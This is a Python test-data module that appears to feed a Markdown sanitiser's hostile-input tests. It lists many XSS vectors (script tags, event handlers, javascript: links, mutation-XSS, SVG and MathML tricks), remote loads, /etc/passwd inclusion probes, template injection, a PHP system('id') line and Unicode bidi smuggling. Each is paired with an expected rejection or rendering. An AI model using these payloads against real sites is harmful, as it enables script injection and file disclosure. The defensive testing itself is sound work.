"""Scripts in Markdown: raw HTML, links, pictures, attribute lists, tables, footnotes, entities."""

from __future__ import annotations

from tests.hostile.cases import CANARY, SHOT, Row, of_body

URL = f"https://{CANARY}/x"

RAW_HTML: tuple[Row, ...] = (
    of_body("script", f"A\n\n<script>{SHOT}</script>\n\nB\n", shown="B"),
    of_body("script-in-a-line", f"A <script>{SHOT}</script> B\n", shown="A"),
    of_body("script-mixed-case", f"<ScRiPt>{SHOT}</sCrIpT>\n"),
    of_body("script-unclosed", f"<script>{SHOT}\n"),
    of_body("script-with-slash", f"<script/src=//{CANARY}/x.js></script>\n"),
    of_body("script-from-elsewhere", f'<script src="{URL}.js"></script>\n'),
    of_body("script-module", f'<script type=module>import "{URL}.js"</script>\n'),
    of_body("script-in-script", f"<scr<script>ipt>{SHOT}</scr</script>ipt>\n"),
    of_body("script-in-comment", f"<!--><script>{SHOT}</script>-->\n"),
    of_body("script-in-cdata", f"<![CDATA[<script>{SHOT}</script>]]>\n"),
    of_body("script-in-instruction", f"<?x <script>{SHOT}</script>?>\n"),
    of_body("script-after-title", f"</title><script>{SHOT}</script>\n"),
    of_body("script-after-style", f"<style></style><script>{SHOT}</script>\n"),
    of_body("script-in-noscript", f'<noscript><p title="</noscript><script>{SHOT}</script>">\n'),
    of_body("script-in-textarea", f'<textarea><a title="</textarea><script>{SHOT}</script>">\n'),
    of_body("script-in-template", f"<template><script>{SHOT}</script></template>\n"),
    of_body("script-in-select", f"<select><script>{SHOT}</script></select>\n"),
    of_body("script-in-xmp", f"<xmp><script>{SHOT}</script></xmp>\n"),
    of_body("script-in-plaintext", f"<plaintext><script>{SHOT}</script>\n"),
    of_body("script-in-code", f"`<script>{SHOT}</script>`\n", shown="<script>"),
    of_body("script-with-nul-entity", f"<scri&#0;pt>{SHOT}</scri&#0;pt>\n"),
    of_body("handler-error", f'<img src="x" onerror="{SHOT}">\n', "E333"),
    of_body("handler-on-a-link", f'<a href="#x" onclick="{SHOT}">x</a>\n', "E334"),
    of_body("handler-with-slash", f'<p/onmouseover="{SHOT}"/>x\n', shown="x"),
    of_body("handler-on-details", f'<details open ontoggle="{SHOT}">x</details>\n', shown="x"),
    of_body("handler-on-body", f'<body onload="{SHOT}">x\n', shown="x"),
    of_body("handler-on-focus", f'<input autofocus onfocus="{SHOT}">x\n', shown="x"),
    of_body("handler-on-media", f'<video><source onerror="{SHOT}"></video>x\n', shown="x"),
    of_body("handler-on-marquee", f'<marquee onstart="{SHOT}">x</marquee>\n', shown="x"),
    of_body("handler-on-animation", f'<p style="animation:x" onanimationend="{SHOT}">x</p>\n'),
    of_body("iframe", f'<iframe src="{URL}"></iframe>x\n'),
    of_body("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{SHOT}</script>"></iframe>x\n'),
    of_body("frameset", f'<frameset><frame src="{URL}"></frameset>x\n'),
    of_body("object", f'<object data="{URL}"></object>x\n'),
    of_body("embed", f'<embed src="{URL}">x\n'),
    of_body("applet", f'<applet code="{URL}"></applet>x\n'),
    of_body("portal", f'<portal src="{URL}"></portal>x\n'),
    of_body("base", f'<base href="{URL}">x\n'),
    of_body("refresh", f'<meta http-equiv="refresh" content="0;url={URL}">x\n'),
    of_body("policy-of-its-own", '<meta http-equiv="Content-Security-Policy" content="">x\n'),
    of_body("stylesheet", f'<link rel="stylesheet" href="{URL}.css">x\n'),
    of_body("preload", f'<link rel="preload" as="image" href="{URL}.png">x\n'),
    of_body("style-block", f"<style>@import '{URL}.css';</style>x\n"),
    of_body("style-attribute", f'<p style="background:url({URL})">x</p>\n', shown="x"),
    of_body(
        "form", f'<form action="{URL}"><input name="q"><button>x</button></form>\n', shown="x"
    ),
    of_body("form-from-afar", f'<button form="tim" formaction="{URL}">x</button>\n', shown="x"),
    of_body("background", f'<table background="{URL}"><tr><td>x</td></tr></table>\n', shown="x"),
    of_body("video-poster", f'<video poster="{URL}.png"></video>x\n'),
    of_body("audio-source", f'<audio src="{URL}.mp3" autoplay></audio>x\n'),
    of_body("picture-source", f'<picture><source srcset="{URL}.png"></picture>x\n'),
    of_body("ping", f'<a href="https://a.example/" ping="{URL}">x</a>\n', shown="x"),
    of_body("id-of-the-page", '<p id="noi-dung">x</p>\n', shown="x"),
    of_body("name-of-a-global", '<a name="document" id="location">x</a>\n', shown="x"),
    of_body("class-of-the-page", '<div class="banner">x</div>\n', shown="x"),
    of_body("end-of-the-page", f"</article></main></body></html><script>{SHOT}</script>\n"),
    of_body("template-of-a-tag", '<a href="https://a.example/{{ x }}">x</a>\n', shown="x"),
    of_body("svg", f"<svg onload={SHOT}></svg>x\n"),
    of_body("svg-script", f"<svg><script>{SHOT}</script></svg>x\n"),
    of_body("svg-use", f'<svg><use href="{URL}#a"/></svg>x\n'),
    of_body("svg-link", f'<svg><a xlink:href="javascript:{SHOT}"><text>x</text></a></svg>\n'),
    of_body("svg-animate", f'<svg><animate onbegin="{SHOT}" attributeName=x dur=1s></svg>x\n'),
    of_body("svg-foreign", f"<svg><foreignObject><script>{SHOT}</script></foreignObject></svg>\n"),
    of_body("svg-style", f"<svg><style><img src=x onerror={SHOT}></style></svg>x\n"),
    of_body("math", f'<math href="javascript:{SHOT}">x</math>\n'),
    of_body(
        "math-action", f'<math><maction actiontype="statusline" xlink:href="{URL}">x</math>\n'
    ),
    of_body(
        "math-mutation",
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={SHOT}&gt;">\n',
    ),
    of_body(
        "form-mutation",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={SHOT}>\n",
    ),
    of_body("quotes-that-end-nothing", f'<p title=">"<img src=x onerror={SHOT}>">x</p>\n'),
    of_body("backtick-quotes", f"<p title=`x` onclick=`{SHOT}`>x</p>\n", shown="x"),
    of_body("invisible-space-in-a-tag", f"<img\u00a0src=x\u00a0onerror={SHOT}>\n"),
    of_body("foreign-picture", f'<img src="{URL}.png" alt="x">\n', "E332"),
    of_body("foreign-picture-set", f'<img srcset="{URL}.png 1x" alt="x">\n', "E333"),
)

LINKS: tuple[Row, ...] = (
    of_body("link", f"[x](javascript:{SHOT})\n", "E321"),
    of_body("link-mixed-case", f"[x](JaVaScRiPt:{SHOT})\n", "E321"),
    of_body("link-entity", f"[x](&#106;avascript:{SHOT})\n", shown="x"),
    of_body("link-entity-hex", f"[x](&#x6A;avascript&colon;{SHOT})\n", shown="x"),
    of_body("link-with-tab", f"[x](java&#9;script:{SHOT})\n", shown="x"),
    of_body("link-with-newline", f"[x](java&NewLine;script:{SHOT})\n", shown="x"),
    of_body("link-with-leading-control", f"[x](&#1;javascript:{SHOT})\n", shown="x"),
    of_body("link-with-backslash", f"[x](java\\script:{SHOT})\n", "E322"),
    of_body("link-percent-encoded", f"[x](%6Aavascript:{SHOT})\n", "E322"),
    of_body("link-in-angles", f"[x](<javascript:{SHOT}>)\n", "E321"),
    of_body("link-with-title", f'[x](javascript:{SHOT} "chú thích")\n', "E321"),
    of_body(
        "link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n", "E321"
    ),
    of_body("link-vbscript", "[x](vbscript:msgbox(1))\n", "E321"),
    of_body("link-file", "[x](file:///etc/passwd)\n", "E323"),
    of_body("link-blob", "[x](blob:https://a.example/1)\n", "E321"),
    of_body("link-view-source", "[x](view-source:https://a.example/)\n", "E321"),
    of_body("link-intent", "[x](intent://a#Intent;end)\n", "E321"),
    of_body("link-ftp", "[x](ftp://a.example/)\n", "E321"),
    of_body("link-without-scheme", f"[x](//{CANARY}/)\n", "E322"),
    of_body("link-backslashes", f"[x](\\\\{CANARY}/)\n", "E322"),
    of_body("link-slash-backslash", f"[x](/\\{CANARY}/)\n", "E322"),
    of_body("link-user", f"[x](https://a.example@{CANARY}/)\n", shown="x"),
    of_body("link-reference", f"[x][1]\n\n[1]: javascript:{SHOT}\n", "E321"),
    of_body("link-reference-below", f"[x]\n\n[x]:\n  javascript:{SHOT}\n"),
    of_body("link-reference-title", f"[x][1]\n\n[1]: https://a.example/ '\" onclick={SHOT}'\n"),
    of_body("autolink", f"<javascript:{SHOT}>\n"),
    of_body("autolink-mail", f"<a@b.example?subject={SHOT}>\n"),
    of_body("autolink-entity", f"<&#106;avascript:{SHOT}>\n"),
    of_body("raw-link", f'<a href="javascript:{SHOT}">x</a>\n', shown="x"),
    of_body("raw-link-entity", f'<a href="jav&#x09;ascript:{SHOT}">x</a>\n', shown="x"),
    of_body("raw-link-spaces", f'<a href="  javascript:{SHOT}">x</a>\n', shown="x"),
    of_body("raw-link-xlink", f'<a xlink:href="javascript:{SHOT}">x</a>\n', shown="x"),
    of_body("raw-link-target", '<a href="https://a.example/" target="_blank">x</a>\n', shown="x"),
    of_body("raw-link-download", '<a href="https://a.example/" download="x.exe">x</a>\n'),
    of_body(
        "title-that-ends-a-link", f'[x](https://a.example/ "\\"><img src=x onerror={SHOT}>")\n'
    ),
    of_body("address-that-ends-a-link", f'[x](https://a.example/"onmouseover="{SHOT})\n'),
    of_body("picture", f"![x](javascript:{SHOT})\n", "E321"),
    of_body("picture-data", "![x](data:image/svg+xml,<svg/onload=alert(1)>)\n", "E321"),
    of_body("picture-of-another-host", f"![x]({URL}.png)\n", "E332"),
    of_body("picture-of-another-host-without-scheme", f"![x](//{CANARY}/x.png)\n", "E333"),
    of_body(
        "picture-alt-that-ends-a-tag", f'![" onerror={SHOT} x="](photo:2020/07/hoi-truong.jpg)\n'
    ),
    of_body(
        "picture-caption-of-html",
        '![x](photo:2020/07/hoi-truong.jpg "<script>alert(1)</script>")\n',
        shown="<script>",
    ),
    of_body(
        "picture-in-a-link", f"[![x](photo:2020/07/hoi-truong.jpg)](javascript:{SHOT})\n", "E321"
    ),
)

MARKDOWN: tuple[Row, ...] = (
    of_body("attributes-handler", f'Đoạn\n{{: onclick="{SHOT}" }}\n', shown="Đoạn"),
    of_body("attributes-style", f'Đoạn\n{{: style="background:url({URL})" }}\n', shown="Đoạn"),
    of_body("attributes-address", f'[x](https://a.example/){{: href="javascript:{SHOT}" }}\n'),
    of_body(
        "attributes-source", f'![x](photo:2020/07/hoi-truong.jpg){{: src="{URL}" }}\n', "E332"
    ),
    of_body("attributes-srcset", f'![x](photo:2020/07/hoi-truong.jpg){{: srcset="{URL} 1x" }}\n'),
    of_body("attributes-id", "## Mục {#noi-dung}\n", shown="Mục"),
    of_body(
        "attributes-id-of-html", f"## Mục {{: id='\"><script>{SHOT}</script>' }}\n", shown="Mục"
    ),
    of_body("table-cell", f"| A |\n| --- |\n| <script>{SHOT}</script> |\n", shown="A"),
    of_body("table-alignment", f"| A |\n| ---: |\n| <b onclick={SHOT}>x</b> |\n", shown="x"),
    of_body(
        "footnote", f"A[^1]\n\n[^1]: <script>{SHOT}</script> [x](javascript:{SHOT})\n", "E321"
    ),
    of_body(
        "footnote-name",
        f'A[^"><img src=x onerror={SHOT}>]\n\n[^"><img src=x onerror={SHOT}>]: x\n',
    ),
    of_body("heading", f"## <script>{SHOT}</script> Mục\n", shown="Mục"),
    of_body("heading-in-contents", f"## <img src=x onerror={SHOT}> Mục\n"),
    of_body("list", f"- <a href='javascript:{SHOT}'>x</a>\n", shown="x"),
    of_body("quote", f"> <iframe src='{URL}'></iframe>x\n"),
    of_body("code-fence", f"```html\n<script>{SHOT}</script>\n```\n", shown="<script>"),
    of_body("entities-of-a-tag", f"&lt;script&gt;{SHOT}&lt;/script&gt;\n", shown="<script>"),
    of_body("entities-twice", f"&amp;lt;script&amp;gt;{SHOT}\n", shown="&lt;script&gt;"),
    of_body("entities-of-numbers", f"&#60;img src=x onerror={SHOT}&#62;\n", shown="<img"),
    of_body("stash-of-the-parser", f"\u0002klzzwxh:0000\u0003 <script>{SHOT}</script>\n", "E112"),
    of_body(
        "placeholder-of-the-parser",
        f"klzzwxh:0001 <b>x</b> wzxhzdk:0 {SHOT}\n",
        shown="klzzwxh:0001",
    ),
    of_body("jinja-expression", "{{ 7 * 191 }} {{ config }}\n", shown="{{ 7 * 191 }}"),
    of_body("jinja-statement", "{% include '/etc/passwd' %}\n", shown="{% include"),
    of_body("jinja-in-a-title", '[x](https://a.example/ "{{ 7 * 191 }}")\n', shown="x"),
    of_body("python-format", "{0.__class__} %(x)s %s ${x}\n", shown="%(x)s"),
    of_body("entities-of-controls", "A&#1;B&#x0;C&#11;D&#xFFFE;&#27;[2J E\n", shown="E"),
    of_body("php", "<?php system('id'); ?>\n"),
    of_body("server-include", '<!--#include virtual="/etc/passwd" -->x\n', shown="x"),
    of_body("restructured-text", ".. include:: /etc/passwd\n", shown=".. include"),
    of_body("include-of-an-extension", '--8<-- "/etc/passwd"\n', shown="/etc/passwd"),
    of_body("wiki-link", "[[/etc/passwd]] {!/etc/passwd!}\n", shown="/etc/passwd"),
    of_body("abbreviation", f"A\n\n*[A]: <script>{SHOT}</script>\n", shown="A"),
    of_body("document-number", f"Chỉ thị số 05-CT/TW<script>{SHOT}</script> ngày 15/5/2016\n"),
    of_body("right-to-left", "Tải \u202efdp.exe\u202c và \u2066x\u2069\n", shown="Tải"),
    of_body("tags-of-unicode", "A\U000e0001\U000e0041\U000e007f B\n", shown="A"),
    of_body("variation-selectors", "A\ufe0f\u20e3 B" + "\U000e0100" * 50 + "\n", shown="A"),
    of_body("stacked-marks", "A" + "\u0301\u0323" * 200 + " B\n", shown="B"),
)
